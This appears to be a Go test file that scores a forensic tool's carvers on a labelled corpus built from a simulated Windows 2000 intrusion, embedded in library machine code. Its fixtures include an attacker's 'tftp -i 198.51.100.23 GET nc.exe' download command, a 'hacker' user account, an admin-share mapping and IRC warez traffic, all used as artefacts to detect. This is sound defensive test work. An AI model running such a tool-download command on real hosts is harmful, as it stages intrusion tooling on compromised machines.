package carve

import (
	"bytes"
	"context"
	"debug/elf"
	"debug/pe"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/remnant-forensics/remnant/internal/testcorpus"
	"github.com/remnant-forensics/remnant/pkg/addrspace"
	"github.com/remnant-forensics/remnant/pkg/scan"
)

// The labelled corpus: fragments of the chapter's intrusion (and of real
// tools' output) embedded at known offsets in real binary noise, in ASCII,
// UTF-16LE at odd and even offsets and, for console output, as console
// cells; then per-carver precision and recall.
//
// Noise is the machine code (.text) of the system's shared libraries: real
// bytes in which none of these records occurs, so that a record found
// outside a fragment is a false positive. The Wine dumps, with their
// ground truth, are evaluated separately (dump_test.go).

var evalNoise = flag.Int("carve.noise", 6<<20, "bytes of binary noise in the labelled corpus (the README table uses 256 MiB)")

// frag is a labelled fragment: the carver that must find it, how many
// records it holds and fields the first one must have.
type frag struct {
	name    string
	carver  string
	text    string // CRLF line ends as cmd.exe writes them
	records int
	want    map[string]string
	console bool // also embedded as console cells
	raw     []byte
}

func crlf(s string) string { return strings.ReplaceAll(strings.TrimPrefix(s, "\n"), "\n", "\r\n") }

// chapterFrags are the chapter's fragments (ping, dir, IIS lines as
// reproduced by winelab's nc.exe, read from its truth file) and the other
// tools' output in the formats Windows 2000/XP and iroffer print
// (testdata/carve/NAME.txt).
func chapterFrags(t testing.TB) []frag {
	var known struct {
		KnownStrings []struct{ Name, Text string } `json:"known_strings"`
	}
	b, err := os.ReadFile(filepath.Join(testcorpus.Root(t), "wine/nc32_winedbg.dmp.truth.json"))
	if err != nil {
		t.Skip("corpus not available:", err)
	}
	if err := json.Unmarshal(b, &known); err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{}
	for _, k := range known.KnownStrings {
		texts[k.Name] = k.Text
	}
	fr := []frag{
		{name: "ping", carver: "ping", text: texts["ping_ascii"], records: 1, console: true,
			want: map[string]string{"target": "192.0.2.15", "sent": "4", "received": "4", "lost": "0", "replies": "4", "ttl": "128"}},
		{name: "dir", carver: "dir", text: texts["dir_ascii"], records: 1, console: true,
			want: map[string]string{"serial": "2C4B-1F0E", "directory": `C:\WINNT\system32\os2\dll`, "bytes_free": "3451928576", "file_count": "3", "dir_count": "2", "file_bytes": "128000"}},
		{name: "iis", carver: "iis", text: texts["iis_ascii"], records: 8,
			want: map[string]string{"directive": "software", "value": "Microsoft Internet Information Services 5.0"}},
		{name: "prompt-tftp", carver: "prompt", records: 1, console: true,
			want: map[string]string{"cwd": `C:\Inetpub\scripts`, "command": "tftp -i 198.51.100.23 GET nc.exe", "program": "tftp"}},
		{name: "prompt-ftp", carver: "prompt", records: 1, console: true,
			want: map[string]string{"cwd": `C:\WINNT\system32`, "command": "ftp 10.0.0.5"}},
		{name: "ipconfig", carver: "ipconfig", console: true, records: 1,
			want: map[string]string{"host_name": "victim01", "node_type": "Hybrid", "ip_address": "192.168.1.5", "physical_address": "00-0C-29-A7-2B-5C"}},
		{name: "netstat-an", carver: "netstat", console: true, records: 1,
			want: map[string]string{"table": "connections", "foreign_address": "[0.0.0.0:0 0.0.0.0:0 0.0.0.0:0 198.51.100.23:6667 198.51.100.23:1067 *:*]"}},
		{name: "netstat-rn", carver: "netstat", console: true, records: 1,
			want: map[string]string{"table": "routes", "default_gateway": "192.168.1.1"}},
		{name: "tasklist", carver: "tasklist", console: true, records: 1,
			want: map[string]string{"tool": "tasklist", "image": "[System Idle Process System smss.exe inetinfo.exe nc.exe]"}},
		{name: "net-user", carver: "net", console: true, records: 1,
			want: map[string]string{"command": "net user", "host": "VICTIM01", "user": "[Administrator Guest hacker IUSR_VICTIM01 IWAM_VICTIM01 TsInternetUser]"}},
		{name: "net-use", carver: "net", console: true, records: 1,
			want: map[string]string{"command": "net use", "remote": `[\\10.0.0.5\c$]`}},
		{name: "net-share", carver: "net", console: true, records: 1,
			want: map[string]string{"command": "net share", "share": "[IPC$ C$ ADMIN$]"}},
		{name: "irc-privmsg", carver: "irc", records: 1,
			want: map[string]string{"kind": "privmsg", "nick": "hacker", "target": "#warez", "xdcc": "SEND", "pack": "1"}},
		{name: "irc-join", carver: "irc", records: 1,
			want: map[string]string{"kind": "join", "nick": "victimbot", "target": "#warez"}},
		{name: "iroffer-stat", carver: "irc", records: 1, console: true,
			want: map[string]string{"kind": "iroffer_status", "slots_used": "2", "slots": "10"}},
		{name: "iroffer-pack", carver: "irc", records: 1, console: true,
			want: map[string]string{"kind": "iroffer_pack", "pack": "1", "gets": "12", "file": "warez-movie.avi"}},
		{name: "url", carver: "url", records: 1,
			want: map[string]string{"host": "198.51.100.23", "scheme": "http"}},
		{name: "email", carver: "email", records: 1,
			want: map[string]string{"domain": "example.org"}},
		{name: "ipv4", carver: "ipv4", records: 1,
			want: map[string]string{"address": "198.51.100.23", "port": "6667"}},
	}
	// The other tools' output, in testdata/carve (CRLF line ends).
	for i := range fr {
		if fr[i].text != "" {
			continue
		}
		b, err := os.ReadFile("../testdata/carve/" + fr[i].name + ".txt")
		if err != nil {
			t.Fatal(err)
		}
		fr[i].text = string(b)
	}
	// The set output of Wine's cmd (real), from a dump's truth file.
	var sh struct {
		Shell struct{ Text string }          `json:"shell_output"`
		GT    struct{ Environment []string } `json:"ground_truth"`
	}
	b, err = os.ReadFile(filepath.Join(testcorpus.Root(t), "wine/nc32_child_cmd_full.dmp.truth.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, &sh); err != nil {
		t.Fatal(err)
	}
	i := strings.Index(sh.Shell.Text, "ALLUSERSPROFILE=")
	j := strings.Index(sh.Shell.Text, "\r\n\r\n"+`C:\WINNT\system32\os2\dll>nc-session-4f2e end`)
	fr = append(fr, frag{name: "set-output", carver: "env", text: sh.Shell.Text[i:j] + "\r\n", records: 1,
		want: map[string]string{"form": "set", "computername": "VICTIM01", "username": "IUSR_VICTIM01", "count": "46"}})
	// The process's environment block (NUL-separated), from the truth.
	blk := strings.Join(sh.GT.Environment, "\x00") + "\x00"
	fr = append(fr, frag{name: "env-block", carver: "env", text: blk, records: 1,
		want: map[string]string{"form": "block", "computername": "VICTIM01", "count": fmt.Sprint(len(sh.GT.Environment))}})
	// Real IIS logs (plaso's test files): every line is a record.
	logs, _ := filepath.Glob(filepath.Join(testcorpus.Root(t), "iis/plaso/*.log"))
	sort.Strings(logs)
	for _, l := range logs {
		b, err := os.ReadFile(l)
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, ln := range strings.Split(string(b), "\n") {
			if strings.TrimSpace(ln) != "" {
				n++
			}
		}
		fr = append(fr, frag{name: filepath.Base(l), carver: "iis", text: string(b), records: n})
	}
	return fr
}

// binaryFrags are real PE files (Go's debug/pe test data) and MFT records
// (go-ntfs's test image), embedded as raw bytes.
func binaryFrags(t testing.TB) []frag {
	var fr []frag
	for _, name := range []string{"gcc-386-mingw-exec", "gcc-amd64-mingw-exec", "llvm-mingw-20211002-msvcrt-x86_64-crt2"} {
		p := filepath.Join(goroot(), "src/debug/pe/testdata", name)
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		f, err := pe.NewFile(bytes.NewReader(b))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if f.OptionalHeader == nil {
			continue // an object file, not an image
		}
		machine := map[uint16]string{pe.IMAGE_FILE_MACHINE_I386: "i386", pe.IMAGE_FILE_MACHINE_AMD64: "amd64"}[f.Machine]
		fr = append(fr, frag{name: name, carver: "pe", raw: b, records: 1,
			want: map[string]string{"machine": machine, "section_count": fmt.Sprint(len(f.Sections)),
				"timestamp": time.Unix(int64(f.TimeDateStamp), 0).UTC().String()}})
	}
	for _, r := range mftRecords(t) {
		fr = append(fr, frag{name: "mft-" + r.name, carver: "mft", raw: r.rec, records: 1,
			want: map[string]string{"name": r.name, "record_number": fmt.Sprint(r.num), "fixups_applied_in_memory": "true"}})
		fr = append(fr, frag{name: "mft-disk-" + r.name, carver: "mft", raw: r.disk, records: 1,
			want: map[string]string{"name": r.name, "fixups_applied_in_memory": "false"}})
	}
	return fr
}

func goroot() string {
	out, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		return "/usr/local/go"
	}
	return strings.TrimSpace(string(out))
}

// noise returns n bytes of machine code from the system's shared
// libraries (their .text sections, in name order).
func noise(t testing.TB, n int) []byte {
	libs, _ := filepath.Glob("/usr/lib/x86_64-linux-gnu/*.so*")
	sort.Strings(libs)
	var out []byte
	for _, l := range libs {
		if len(out) >= n {
			break
		}
		f, err := elf.Open(l)
		if err != nil {
			continue
		}
		if s := f.Section(".text"); s != nil {
			if b, err := s.Data(); err == nil {
				out = append(out, b...)
			}
		}
		f.Close()
	}
	if len(out) < n {
		t.Skipf("only %d bytes of library code for noise", len(out))
	}
	return out[:n]
}

func toUTF16(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return b
}

// toCells lays text out as an 80-column console screen: one row per line,
// padded with spaces, each cell a WCHAR and the attribute 0x0007.
func toCells(s string) []byte {
	var b []byte
	for _, ln := range strings.Split(strings.ReplaceAll(s, "\r\n", "\n"), "\n") {
		r := []rune(ln)
		for len(r)%80 != 0 || len(r) == 0 {
			r = append(r, ' ')
		}
		for _, c := range r {
			b = append(b, byte(c), byte(c>>8), 7, 0)
		}
	}
	return b
}

type label struct {
	frag       *frag
	enc        Encoding
	start, end int
}

// buildCorpus embeds every fragment in every form at pseudo-random,
// non-overlapping offsets of the noise (fixed seed).
func buildCorpus(t testing.TB, frags []frag, n int) ([]byte, []label) {
	data := noise(t, n)
	rng := rand.New(rand.NewPCG(1, 2))
	var labels []label
	pos := 4096
	place := func(f *frag, enc Encoding, b []byte) {
		gap := 2048 + rng.IntN(30000)
		if enc == UTF16LE && (pos+gap)%2 == 0 && len(labels)%2 == 0 {
			gap++ // odd offsets too, as Wine writes memory
		}
		p := pos + gap
		if p+len(b)+16 > len(data) {
			t.Fatalf("noise too small for the fragments")
		}
		// Strings sit between NULs in memory.
		z := 2
		if enc == ASCII || enc == Binary {
			z = 1
		}
		clear(data[p-z : p])
		copy(data[p:], b)
		clear(data[p+len(b) : p+len(b)+z])
		labels = append(labels, label{f, enc, p, p + len(b)})
		pos = p + len(b) + z
	}
	for round := 0; pos < len(data)-200000; round++ {
		for i := range frags {
			f := &frags[i]
			if f.raw != nil {
				place(f, Binary, f.raw)
				continue
			}
			place(f, ASCII, []byte(f.text))
			place(f, UTF16LE, toUTF16(f.text))
			if f.console {
				place(f, Cells, toCells(f.text))
			}
		}
		if round == 0 && *evalNoise <= 8<<20 {
			break
		}
	}
	return data, labels
}

var indicator = map[string]bool{"ipv4": true, "url": true, "email": true, "prompt": true, "irc": true}

type score struct{ tp, fp, fn int }

func (s score) precision() float64 {
	if s.tp+s.fp == 0 {
		return 1
	}
	return float64(s.tp) / float64(s.tp+s.fp)
}

func (s score) recall() float64 {
	if s.tp+s.fn == 0 {
		return 1
	}
	return float64(s.tp) / float64(s.tp+s.fn)
}

// evaluate carves data in small chunks (so that fragments straddle chunk
// edges) and scores the records against the labels.
func evaluate(t testing.TB, data []byte, labels []label) (map[string]*score, []string) {
	v := addrspace.Whole(bytes.NewReader(data), int64(len(data)))
	var recs []Record
	err := Carve(context.Background(), v, Options{Scan: scan.Options{ChunkSize: 256 << 10}}, func(r Record) error {
		recs = append(recs, r)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	scores := map[string]*score{}
	for _, c := range Registry {
		scores[c.Spec().Name] = &score{}
	}
	var problems []string
	used := make([]bool, len(recs))
	for _, l := range labels {
		enc := l.enc
		var got []int
		for i, r := range recs {
			if r.Carver == l.frag.carver && (r.Encoding == enc || r.Encoding == Binary) &&
				r.Offset < uint64(l.end) && r.Offset+r.Size > uint64(l.start) {
				got = append(got, i)
			}
		}
		for _, i := range got {
			used[i] = true
		}
		ok := len(got) > 0
		if ok && l.frag.want != nil {
			f := recs[got[0]].Fields
			for k, w := range l.frag.want {
				if g := f.Get(k); g == nil || fmt.Sprint(g) != w {
					ok = false
					problems = append(problems, fmt.Sprintf("%s/%s at 0x%x: %s = %v, want %s", l.frag.name, enc, l.start, k, g, w))
				}
			}
		}
		s := scores[l.frag.carver]
		found := 0
		if ok {
			found = min(len(got), l.frag.records)
			s.fp += len(got) - found
		} else {
			s.fp += len(got)
			if len(got) == 0 {
				problems = append(problems, fmt.Sprintf("%s/%s at 0x%x: not found", l.frag.name, enc, l.start))
			}
		}
		s.tp += found
		s.fn += l.frag.records - found
	}
	inside := func(r Record) bool {
		for _, l := range labels {
			if r.Offset >= uint64(l.start) && r.Offset < uint64(l.end) {
				return true
			}
		}
		return false
	}
	for i, r := range recs {
		// IP addresses, URLs, e-mail addresses, prompts and IRC lines
		// inside another fragment are really there: not scored.
		if !used[i] && indicator[r.Carver] && inside(r) {
			continue
		}
		if !used[i] {
			scores[r.Carver].fp++
			if len(problems) < 200 {
				problems = append(problems, fmt.Sprintf("unlabelled %s/%s at 0x%x: %q %s", r.Carver, r.Encoding, r.Offset, r.Text, r.Fields))
			}
		}
	}
	return scores, problems
}

// TestLabelledCorpus measures precision and recall per carver; each must
// be at least 0.95. go test -run LabelledCorpus -v -carve.noise=268435456
// prints the table of the README.
func TestLabelledCorpus(t *testing.T) {
	frags := append(chapterFrags(t), binaryFrags(t)...)
	data, labels := buildCorpus(t, frags, *evalNoise)
	scores, problems := evaluate(t, data, labels)
	for _, p := range problems {
		t.Log(p)
	}
	names := Names()
	t.Logf("corpus: %d bytes, %d labelled fragments", len(data), len(labels))
	t.Logf("| carver | labelled records | true pos. | false pos. | false neg. | precision | recall |")
	t.Logf("|---|---:|---:|---:|---:|---:|---:|")
	for _, n := range names {
		s := scores[n]
		if s.tp+s.fn == 0 {
			continue
		}
		t.Logf("| %s | %d | %d | %d | %d | %.3f | %.3f |", n, s.tp+s.fn, s.tp, s.fp, s.fn, s.precision(), s.recall())
		if s.precision() < 0.95 || s.recall() < 0.95 {
			t.Errorf("%s: precision %.3f, recall %.3f (want >= 0.95)", n, s.precision(), s.recall())
		}
	}
}

type mftRec struct {
	name string
	num  int
	rec  []byte // as in memory: fixups applied
	disk []byte // as on disk: fixups in place
}

// ntfsImage returns go-ntfs's test image (a real NTFS volume) from the
// module cache, or nil.
func ntfsImage(t testing.TB) []byte {
	out, err := exec.Command("go", "env", "GOMODCACHE").Output()
	if err != nil {
		return nil
	}
	b, err := os.ReadFile(filepath.Join(strings.TrimSpace(string(out)), "www.velocidex.com/golang/go-ntfs@v0.2.1/parser/test_data/test.ntfs.dd"))
	if err != nil {
		return nil
	}
	return b
}

// mftRecords reads the first system records and record 46 of the test
// image's MFT, located from its boot sector. Names: the NTFS system files
// (records 0-11 by the published layout) and go-ntfs's golden file for 46.
func mftRecords(t testing.TB) []mftRec {
	img := ntfsImage(t)
	if img == nil {
		t.Log("go-ntfs test image not found: MFT fragments skipped")
		return nil
	}
	bps := int(img[0x0b]) | int(img[0x0c])<<8
	spc := int(img[0x0d])
	mft := int(u32(img, 0x30)) * bps * spc
	names := map[int]string{0: "$MFT", 1: "$MFTMirr", 2: "$LogFile", 3: "$Volume", 4: "$AttrDef", 5: ".",
		6: "$Bitmap", 7: "$Boot", 8: "$BadClus", 9: "$Secure", 10: "$UpCase", 11: "$Extend",
		46: "Hello world text document.txt"}
	var out []mftRec
	for _, n := range []int{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 46} {
		disk := img[mft+n*1024 : mft+(n+1)*1024]
		mem := bytes.Clone(disk)
		usa, cnt := u16(mem, 4), u16(mem, 6)
		for s := 1; s < cnt; s++ {
			copy(mem[s*512-2:s*512], disk[usa+2*s:usa+2*s+2])
		}
		out = append(out, mftRec{names[n], n, mem, bytes.Clone(disk)})
	}
	return out
}
